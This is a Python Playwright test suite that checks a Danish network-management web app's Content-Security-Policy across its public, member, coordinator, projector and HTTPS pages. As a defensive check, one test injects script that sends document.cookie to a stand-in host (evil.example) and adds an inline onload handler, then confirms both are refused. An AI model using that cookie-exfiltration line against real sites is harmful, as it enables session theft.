"""The Content-Security-Policy in real Chromium, on the demo data, with one server for the module: no page of any role
reports a violation while it is used the way people use it, and what the policy forbids is refused and reported.

Every page gets a watch (tests/browser.py `csp_watch`: the document's `securitypolicyviolation` events and Chromium's
console lines) before it loads; after each step the list of violations must still be empty. On every page the
socket.io connection must be up over a websocket (ws:// is allowed by connect-src 'self'). Covered: the public pages
(and a 404), the application form sent; a member's pages, their downloads (agenda and minutes PDFs, calendar file,
data export) and the logout form; every coordinator page, the charts on /overblik with a tooltip, the member export
(CSV and XLSX, made in the browser as blob: downloads), an agenda item dragged onto another, a picture uploaded as
material (Quasar shows a blob: thumbnail), the material's download; a markdown description with pictures; the
projector with its QR code following the coordinator live; and the login form, the pages and the socket (wss://)
behind HTTPS.
"""
from __future__ import annotations

import io
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import segno
from playwright.sync_api import Browser, BrowserContext, Page, expect

from flnet_ui.demo import DEMO_MEMBER_PASSWORD
from tests.browser import Server, csp_watch, da, demo_server_and_chromium, log_in_as_demo_coordinator, start_application
from tests.test_browser_meetings import plan_today
from tests.tls_front import TlsFront

pytestmark = pytest.mark.browser

SOCKET_UP = "() => window.socket?.connected && window.socket.io.engine.transport.name === 'websocket'"
DESCRIPTION = ('Kort over lokalet: ![Lokale 2](https://kort.example.dk/lokale-2.png)\n\n'
               'Og et billede skrevet som HTML: <img src="http://billeder.example.dk/foto.jpg" alt="Foto">')
ITEM = 'Velkomst med kort'
DOWNLOADS = ('a[href$=".pdf"]', 'a[href$=".ics"]', 'a[href$=".json"]', 'a[href^="/materialer/"]')


@dataclass
class Site:
    server: Server
    browser: Browser
    ids: dict[str, Any]
    violations: list[str] = field(default_factory=list)

    @property
    def base(self) -> str:
        return self.server.base

    def context(self, **options: Any) -> BrowserContext:
        context = self.browser.new_context(**{'viewport': {'width': 1280, 'height': 800}, 'locale': 'da-DK',
                                              'accept_downloads': True, **options})
        csp_watch(context, self.violations)
        return context

    def coordinator(self) -> Page:
        page = self.context().new_page()
        log_in_as_demo_coordinator(page, self.base)
        self.check(page, 'login')
        return page

    def visit(self, page: Page, path: str, status: int = 200) -> None:
        response = page.goto(self.base + path, wait_until='networkidle')
        assert response is not None and response.status == status, path
        self.check(page, path)

    def check(self, page: Page, step: str) -> None:
        """The page's socket is up over a websocket, and nothing anywhere was refused."""
        page.wait_for_function(SOCKET_UP, timeout=5000)
        page.wait_for_timeout(200)   # late loads (fonts, images, a chart) report after networkidle
        assert self.violations == [], f'{step}: {self.violations}'

    def download_each_kind(self, page: Page, step: str) -> list[str]:
        """Click the first link of each kind of download on the page (PDF, calendar file, data, material)."""
        names = []
        for kind in DOWNLOADS:
            link = page.locator(kind).first
            if not link.count():
                continue
            with page.expect_download() as download:
                link.click()
            names.append(download.value.suggested_filename)
        self.check(page, f'{step}: downloads {names}')
        return names


@pytest.fixture(scope='module')
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    data_dir = tmp_path_factory.mktemp('csp') / 'data'
    with demo_server_and_chromium(data_dir) as (server, browser):
        with sqlite3.connect(data_dir / 'flnet.sqlite3') as db:
            def one(sql: str, *args: Any) -> Any:
                return db.execute(sql, args).fetchone()[0]
            upcoming = one("SELECT id FROM meeting WHERE status = 'planned' ORDER BY starts_at")
            ids = {'upcoming': upcoming,
                   'held': one("SELECT meeting_id FROM minutes WHERE status = 'approved'"),
                   'membership': one("SELECT id FROM membership WHERE status = 'active'"),
                   'member_email': one("SELECT email FROM app_user WHERE role = 'member'"),
                   'display': one('SELECT display_token FROM network'),
                   'group_item': one("SELECT id FROM agenda_item WHERE kind = 'group_work' AND meeting_id = ?",
                                     upcoming)}
        yield Site(server, browser, ids)


@pytest.fixture(autouse=True)
def own_violations(site: Site) -> None:
    """Each test is judged by what it did: not by what an earlier one (that failed) left in the list."""
    site.violations.clear()


def test_what_the_policy_forbids_is_refused_and_reported(site: Site) -> None:
    """The watch is no blind eye: an image and a request to another site, and an injected inline handler, are
    refused, and each is reported. The handler never runs (script-src-attr 'none')."""
    page = site.context().new_page()
    site.visit(page, '/')
    page.evaluate('''() => {
        new Image().src = 'https://evil.example/pixel.png';
        fetch('https://evil.example/collect', {method: 'POST', body: document.cookie}).catch(() => null);
        const box = document.createElement('div');
        box.innerHTML = '<img src="/favicon.ico" onload="window.__ran = true">';
        document.body.append(box);
    }''')
    page.wait_for_timeout(500)
    assert page.evaluate('() => window.__ran') is None
    reported = ' '.join(site.violations)
    for directive in ('img-src', 'connect-src', 'script-src-attr'):
        assert f'{directive} refused' in reported, site.violations
    assert 'evil.example/pixel.png' in reported and 'evil.example/collect' in reported
    site.violations.clear()
    page.context.close()


def test_public_pages_and_the_application_form(site: Site) -> None:
    page = site.context().new_page()
    for path in ('/', '/privatliv', '/login', '/login?sendt=1', '/ansoeg'):
        site.visit(page, path)
    site.visit(page, '/findes-ikke', status=404)
    site.visit(page, '/skaerm/ukendt-link')
    site.visit(page, '/ansoeg')
    start_application(page, 'Bo Ansøger', 'bo.ansoeger@bib.dk', 'Ærø')
    page.get_by_role('option', name='Ærø Bibliotek', exact=True).click()
    page.get_by_text(da('I agree that the network handles my personal data as described in the privacy statement.'))\
        .click()
    page.get_by_role('button', name=da('Send application')).click()
    expect(page.get_by_text(da('Thank you for your application'))).to_be_visible()
    site.check(page, 'application sent')
    page.context.close()


def test_a_members_pages_downloads_and_logout(site: Site) -> None:
    page = site.context().new_page()
    site.visit(page, '/login')
    page.locator('input[name=email]').fill(site.ids['member_email'])
    page.locator('input[name=password]').fill(DEMO_MEMBER_PASSWORD)
    with page.expect_navigation():   # a form post and its redirect: form-action 'self'
        page.keyboard.press('Enter')
    page.wait_for_load_state('networkidle')
    assert page.url.endswith('/min-side'), page.url
    site.check(page, 'member login')
    downloaded = site.download_each_kind(page, '/min-side')
    for path in ('/min-side/kalender', '/min-side/adgangskode', '/referater'):
        site.visit(page, path)
        downloaded += site.download_each_kind(page, path)
    assert {name.rsplit('.', 1)[-1] for name in downloaded} >= {'pdf', 'ics', 'json'}, downloaded
    with page.expect_navigation():
        page.get_by_role('button', name=da('Log out')).click()
    page.wait_for_load_state('networkidle')
    site.check(page, 'logout')
    page.context.close()


def test_every_coordinator_page_the_charts_the_exports_and_an_uploaded_picture(site: Site) -> None:
    page = site.coordinator()
    upcoming, held = site.ids['upcoming'], site.ids['held']
    for path in ('/overblik', '/medlemmer', f'/medlemmer/{site.ids["membership"]}', '/venteliste', '/aftaler',
                 '/indstillinger', '/udbakke', '/moeder', f'/moeder/{upcoming}', f'/moeder/{upcoming}/fremmoede',
                 f'/moeder/{upcoming}/grupper/{site.ids["group_item"]}', f'/moeder/{upcoming}/styring',
                 f'/moeder/{held}/referat', '/opfoelgning', '/referater'):
        site.visit(page, path)
        if path == '/overblik':
            chart = page.locator('.nicegui-echart').first
            chart.scroll_into_view_if_needed()
            expect(chart.locator('canvas')).to_have_count(1)   # drawn
            chart.hover()
            expect(page.locator('.nicegui-echart div[style*="z-index"]').first).to_be_attached()   # the tooltip
            site.check(page, 'chart tooltip')
        if path == '/medlemmer':
            for button in ('Export CSV', 'Export XLSX'):   # ui.download.content: a blob: address in the browser
                with page.expect_download() as export:
                    page.get_by_role('button', name=da(button)).click()
                assert export.value.suggested_filename.endswith(button[-4:].strip().lower())
            site.check(page, 'member export')
        if path == f'/moeder/{held}/referat':
            assert site.download_each_kind(page, path), 'no PDF of the minutes to download'

    site.visit(page, f'/moeder/{upcoming}/dagsorden')
    items = page.locator('li[draggable=true]')
    second = items.nth(1).get_by_role('heading').inner_text()
    items.nth(1).drag_to(items.nth(0))   # the handlers are JavaScript that nicegui.js evaluates ('unsafe-eval')
    expect(items.nth(0).get_by_role('heading')).to_have_text(second)
    site.check(page, 'an item dragged')
    page.get_by_role('button', name=da('Materials')).first.click()
    dialog = page.get_by_role('dialog')
    picture = io.BytesIO()
    segno.make('https://fl-netvaerket.example.dk').save(picture, kind='png', scale=4)
    dialog.locator('input[type=file]').set_input_files(
        files=[{'name': 'lokale.png', 'mimeType': 'image/png', 'buffer': picture.getvalue()}])
    expect(page.get_by_text(da('The file {name} is uploaded.').format(name='lokale.png'))).to_be_visible()
    expect(dialog.locator('.q-uploader__file--img')).to_be_visible()   # the thumbnail, from a blob: address
    site.check(page, 'picture uploaded')
    dialog.get_by_role('button', name=da('Close')).click()
    with page.expect_download() as material:
        page.get_by_role('link', name='lokale.png').first.click()
    assert material.value.suggested_filename == 'lokale.png'
    site.check(page, 'material downloaded')
    page.context.close()


def test_the_projector_with_its_qr_code_follows_the_coordinator_live(site: Site) -> None:
    coordinator = site.coordinator()
    site.visit(coordinator, '/moeder')
    meeting = int(plan_today(coordinator).split('/')[2])
    site.visit(coordinator, f'/moeder/{meeting}/dagsorden')
    coordinator.get_by_role('button', name=da('Add item')).click()
    dialog = coordinator.get_by_role('dialog')
    dialog.get_by_label(da('Title')).fill(ITEM)
    dialog.get_by_label(da('Duration (minutes)')).fill('15')
    dialog.get_by_label(da('Description')).fill(DESCRIPTION)
    dialog.get_by_role('button', name=da('Add item')).click()
    expect(coordinator.get_by_role('heading', name=ITEM)).to_be_visible()
    # A picture in the description is a link to it, never loaded from the other site.
    expect(coordinator.get_by_role('link', name='Lokale 2')).to_have_attribute(
        'href', 'https://kort.example.dk/lokale-2.png')
    expect(coordinator.get_by_role('link', name='Foto')).to_have_attribute(
        'href', 'http://billeder.example.dk/foto.jpg')
    site.check(coordinator, 'agenda with a markdown description')

    projector = site.context(viewport={'width': 1920, 'height': 1080}).new_page()
    site.visit(projector, f'/skaerm/{site.ids["display"]}')
    expect(projector.get_by_text(ITEM)).to_have_count(0)
    expect(projector.get_by_role('img', name=da('QR code to My page'))).to_be_visible()
    site.visit(coordinator, f'/moeder/{meeting}/styring')
    coordinator.get_by_role('button', name=da('Start the meeting')).click()
    expect(projector.locator('.now-title')).to_have_text(ITEM, timeout=3000)   # pushed over the websocket
    site.check(projector, 'projector after the start')
    site.check(coordinator, 'control page after the start')
    projector.context.close()
    coordinator.context.close()


def test_behind_https_the_login_pages_and_the_secure_socket(site: Site, tmp_path: Path) -> None:
    """Behind a proxy that ends TLS the page is https and its socket wss: 'self' covers both."""
    front = TlsFront(site.server.port, tmp_path / 'tls')
    try:
        page = site.context(ignore_https_errors=True).new_page()
        sockets: list[str] = []
        page.on('websocket', lambda socket: sockets.append(socket.url))
        log_in_as_demo_coordinator(page, front.base)
        assert page.url == front.base + '/overblik', page.url
        page.wait_for_function(SOCKET_UP, timeout=5000)
        for path in ('/medlemmer', f'/skaerm/{site.ids["display"]}'):
            page.goto(front.base + path, wait_until='networkidle')
            page.wait_for_function(SOCKET_UP, timeout=5000)
        assert sockets and all(url.startswith(f'wss://127.0.0.1:{front.port}/') for url in sockets), sockets
        assert site.violations == [], site.violations
        page.context.close()
    finally:
        front.close()
